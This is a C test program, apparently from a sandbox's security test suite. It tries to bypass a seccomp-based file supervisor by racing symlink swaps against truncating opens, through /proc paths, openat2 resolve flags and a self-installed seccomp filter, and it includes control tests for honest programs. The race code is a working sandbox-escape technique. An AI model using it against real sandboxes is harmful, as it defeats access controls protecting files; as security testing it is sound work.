// path_trunc_exit DIR SECONDS: truncate a denied file through an open the supervisor does not
// make an openat2 without symlinks, but checks again at its exit (attack review of issue 17).
// DIR/secret/** is denied to the open calls (EUCLEAN); DIR/pub is allowed. Threads flip
// DIR/pub/x between a regular file and a symlink to DIR/secret/VARIANT while this thread opens
// it O_WRONLY|O_TRUNC, in a way that opts out of the rewrite:
//   procfs   through /proc/self/cwd/x (a path through /proc is left to the kernel)
//   resolve  openat2 with a RESOLVE_* flag of its own (RESOLVE_NO_XDEV: changes nothing here)
//   filter   after installing a seccomp filter of its own that allows everything
// The exit check kills the process when the descriptor is the secret, but the kernel truncated
// it before the exit stop: DIR/secret/VARIANT found empty afterwards (stat: no open needed) is
// a BYPASS, whether or not the child was killed.
#include "attack.h"

#include <fcntl.h>
#include <linux/filter.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

static char dir[1024];
static atomic_int stop;
static const char *mode;

static void *flipper(void *arg) {
  (void)arg;
  char name[2048], tmp_link[4096], tmp_file[4096], target[2048];
  snprintf(name, sizeof name, "%s/pub/x", dir);
  snprintf(tmp_link, sizeof tmp_link, "%s.l%ld", name, (long)gettid());
  snprintf(tmp_file, sizeof tmp_file, "%s.f%ld", name, (long)gettid());
  snprintf(target, sizeof target, "%s/secret/%s", dir, mode);
  while (!stop) {
    unlink(tmp_link);
    (void)!symlink(target, tmp_link);
    (void)!rename(tmp_link, name);
    int fd = open(tmp_file, O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd >= 0) {
      (void)!write(fd, "public\n", 7);
      close(fd);
    }
    (void)!rename(tmp_file, name);
  }
  return NULL;
}

static int allow_all_filter(void) {
  struct sock_filter insn[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
  struct sock_fprog prog = {1, insn};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) return -1;
  return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
}

static int open_trunc(const char *name) {
  if (strcmp(mode, "resolve") == 0) {
    struct open_how how = {.flags = O_WRONLY | O_TRUNC | O_CLOEXEC, .resolve = RESOLVE_NO_XDEV};
    return (int)syscall(SYS_openat2, AT_FDCWD, name, &how, sizeof how);
  }
  return open(name, O_WRONLY | O_TRUNC | O_CLOEXEC);
}

static int race(double seconds) {
  if (strcmp(mode, "filter") == 0 && allow_all_filter() != 0) return 2;
  char name[2048];
  snprintf(name, sizeof name, "%s/pub/x", dir);
  const char *open_name = name;
  if (strcmp(mode, "procfs") == 0) {
    char pub[2048];
    snprintf(pub, sizeof pub, "%s/pub", dir);
    if (chdir(pub) != 0) return 2;
    open_name = "/proc/self/cwd/x";
  }
  pthread_t th[2];
  for (int i = 0; i < 2; i++) pthread_create(&th[i], NULL, flipper, NULL);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long opens = 0, tries = 0;
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
    for (int k = 0; k < 64; k++) {
      ++tries;
      int fd = open_trunc(open_name);
      if (fd < 0) continue;
      ++opens;
      close(fd);
    }
  }
  stop = 1;
  for (int i = 0; i < 2; i++) pthread_join(th[i], NULL);
  say(1, "# %s: %ld opens of %ld tries\n", mode, opens, tries);
  return 0;
}

// Transparency: with a filter of its own, an honest program's O_TRUNC opens (open, openat2
// with a RESOLVE_* flag, creat) still empty the file, and return a working descriptor.
static int honest(void) {
  if (allow_all_filter() != 0) return 2;
  char name[2048];
  snprintf(name, sizeof name, "%s/pub/honest", dir);
  static const char *ways[] = {"open", "openat2", "creat"};
  for (int i = 0; i < 3; i++) {
    int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
    if (fd < 0 || write(fd, "content\n", 8) != 8) return 2;
    close(fd);
    if (i == 0) {
      fd = open(name, O_WRONLY | O_TRUNC | O_CLOEXEC);
    } else if (i == 1) {
      struct open_how how = {.flags = O_RDWR | O_TRUNC | O_CLOEXEC, .resolve = RESOLVE_NO_XDEV};
      fd = (int)syscall(SYS_openat2, AT_FDCWD, name, &how, sizeof how);
    } else {
      fd = creat(name, 0666);
    }
    struct stat st;
    if (fd < 0 || fstat(fd, &st) != 0 || st.st_size != 0 || write(fd, "x", 1) != 1) {
      say(1, "ERROR honest-%s: fd=%d errno=%s size=%lld\n", ways[i], fd, errname(errno),
          fd < 0 ? -1LL : (long long)st.st_size);
      return 2;
    }
    close(fd);
    say(1, "ok honest-%s: truncated, descriptor writable\n", ways[i]);
  }
  return 0;
}

// Transparency: with a filter of its own, an honest program reading a file that two other
// threads replace atomically (write a copy, rename it over) is not killed: the file it opened
// is another than the one checked, but a file the rules allow.
static void *replacer(void *arg) {
  (void)arg;
  char name[2048], tmp[4096];
  snprintf(name, sizeof name, "%s/pub/replaced", dir);
  snprintf(tmp, sizeof tmp, "%s.%ld", name, (long)gettid());
  while (!stop) {
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
    if (fd >= 0) {
      (void)!write(fd, "public\n", 7);
      close(fd);
    }
    (void)!rename(tmp, name);
  }
  return NULL;
}

static int honest_replace(double seconds) {
  if (allow_all_filter() != 0) return 2;
  char name[2048];
  snprintf(name, sizeof name, "%s/pub/replaced", dir);
  int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
  if (fd < 0) return 2;
  close(fd);
  pthread_t th[2];
  stop = 0;
  for (int i = 0; i < 2; i++) pthread_create(&th[i], NULL, replacer, NULL);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long opens = 0;
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
    fd = open(name, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
      ++opens;
      close(fd);
    }
  }
  stop = 1;
  for (int i = 0; i < 2; i++) pthread_join(th[i], NULL);
  say(1, "ok honest-replace: %ld opens of a file replaced meanwhile, not killed\n", opens);
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  snprintf(dir, sizeof dir, "%s", argv[1]);
  pid_t h = fork();
  if (h == 0) _exit(honest());
  int hst = 0;
  waitpid(h, &hst, 0);
  if (!WIFEXITED(hst) || WEXITSTATUS(hst) != 0) setup_error("honest", "status %#x", hst);
  h = fork();
  if (h == 0) _exit(honest_replace(atof(argv[2])));
  waitpid(h, &hst, 0);
  if (!WIFEXITED(hst) || WEXITSTATUS(hst) != 0)
    setup_error("honest-replace", "an honest reader was %s (status %#x)",
                WIFSIGNALED(hst) && WTERMSIG(hst) == SIGKILL ? "killed" : "stopped", hst);
  const double seconds = atof(argv[2]);
  static const char *modes[] = {"procfs", "resolve", "filter"};
  for (size_t i = 0; i < sizeof modes / sizeof *modes; i++) {
    mode = modes[i];
    stop = 0;
    char secret[2048];
    snprintf(secret, sizeof secret, "%s/secret/%s", dir, mode);
    struct stat before;
    if (stat(secret, &before) != 0 || before.st_size == 0) {
      setup_error(mode, "%s must exist and not be empty", secret);
      continue;
    }
    pid_t child = fork();
    if (child == 0) _exit(race(seconds));
    int st = 0;
    waitpid(child, &st, 0);
    struct stat after;
    const int killed = WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL;
    if (stat(secret, &after) != 0)
      setup_error(mode, "stat %s: %s", secret, strerror(errno));
    else if (after.st_size != before.st_size)
      bypass(mode, "DIR/secret/%s truncated to %lld bytes (child %s)", mode,
             (long long)after.st_size, killed ? "killed at exit, too late" : "not killed");
    else if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
      ok(mode, "the secret kept its %lld bytes", (long long)after.st_size);
    else if (killed)
      ok(mode, "killed: a race seen at exit, the secret kept its bytes");
    else
      setup_error(mode, "child status %d", st);
  }
  return finish();
}
